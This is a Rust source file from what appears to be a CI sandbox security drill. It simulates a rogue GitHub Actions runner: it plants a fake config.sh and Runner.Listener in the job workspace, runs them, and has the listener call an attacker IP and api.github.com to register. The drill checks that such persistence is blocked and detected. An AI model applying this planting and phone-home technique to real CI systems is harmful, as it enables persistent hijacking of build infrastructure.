//! Rogue runner registration (runner-on-runner): the job installs its own GitHub runner — a
//! fake `config.sh` and `bin/Runner.Listener` in the workspace — and runs it, so it would
//! register with GitHub (or an attacker) and keep serving jobs after this one ends. The fake
//! listener is this very binary under another name: it tries to reach api.github.com (which
//! the world points at the attacker's server) and the attacker by IP. Success = it ran AND
//! reached the world. Harmless: nothing is registered anywhere; the "GitHub" is the drill's
//! fake server.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use super::util::{http, Step};
use super::{detector, Attack, AttackResult, Category, Expect};
use crate::addrs::ATTACKER;

/// `rogue-runner`: run a planted runner.
pub struct RogueRunner;

/// What the planted `Runner.Listener` does: returns its exit code (0 = reached the world).
pub fn as_fake_runner(args: &[String]) -> Option<i32> {
    let name = Path::new(args.first()?).file_name()?.to_str()?;
    if name != "Runner.Listener" {
        return None;
    }
    let body = br#"{"name":"rogue","labels":["self-hosted"]}"#;
    let ip = ATTACKER.to_string();
    let tries = [
        http(
            "api.github.com",
            80,
            "POST",
            "api.github.com",
            "/actions/runner-registration",
            &[],
            body,
        ),
        http(
            &ip,
            80,
            "POST",
            "api.github.com",
            "/actions/runner-registration",
            &[],
            body,
        ),
    ];
    let reached = tries.iter().any(Result::is_ok);
    println!(
        "fake Runner.Listener: {}",
        tries
            .iter()
            .map(|r| match r {
                Ok(s) | Err(s) => s.as_str(),
            })
            .collect::<Vec<_>>()
            .join(" | ")
    );
    Some(if reached { 0 } else { 1 })
}

fn plant(dir: &Path) -> std::io::Result<()> {
    std::fs::create_dir_all(dir.join("bin"))?;
    let listener = dir.join("bin/Runner.Listener");
    // The running program is execute-only in the job (docs/sandbox.md); the drill leaves a
    // readable copy beside it, as an attacker would bring their own.
    std::fs::copy(super::PAYLOAD, &listener)
        .or_else(|_| std::fs::copy("/proc/self/exe", &listener))?;
    std::fs::set_permissions(&listener, std::fs::Permissions::from_mode(0o755))?;
    let config = dir.join("config.sh");
    std::fs::write(
        &config,
        "#!/bin/sh\n# fake GitHub runner config.sh planted by airlock drill\nexec \"$(dirname \"$0\")/bin/Runner.Listener\" configure --unattended --url https://github.com/victim/repo --token DRILL \"$@\"\n",
    )?;
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o755))
}

impl Attack for RogueRunner {
    fn id(&self) -> &'static str {
        "rogue-runner"
    }
    fn title(&self) -> &'static str {
        "rogue runner: run a planted config.sh / Runner.Listener that phones home"
    }
    fn category(&self) -> Category {
        Category::Network
    }
    fn expect(&self) -> Expect {
        Expect::BlockedAndDetected(detector::ROGUE_RUNNER)
    }
    fn expect_in_audit_mode(&self) -> Expect {
        // Audit mode: the registration reaches the world there; a runner airlock did not start is still one.
        Expect::Detected(detector::ROGUE_RUNNER)
    }
    fn run(&self) -> AttackResult {
        let cwd = std::env::current_dir().unwrap_or_else(|_| "/tmp".into());
        let dir = cwd.join("actions-runner");
        if let Err(e) = plant(&dir) {
            return AttackResult::from_steps(
                self.id(),
                &[Step::failed(
                    format!("plant {}", dir.display()),
                    e.to_string(),
                )],
            );
        }
        let out = std::process::Command::new(dir.join("config.sh")).output();
        let s = match out {
            Ok(o) => {
                let text = String::from_utf8_lossy(&o.stdout).trim().to_owned();
                if o.status.success() {
                    Step::ok("run config.sh -> Runner.Listener", text)
                } else {
                    Step::failed("run config.sh -> Runner.Listener", format!("ran; {text}"))
                }
            }
            Err(e) => Step::failed("run config.sh", e.to_string()),
        };
        AttackResult::from_steps(self.id(), &[s])
    }
}
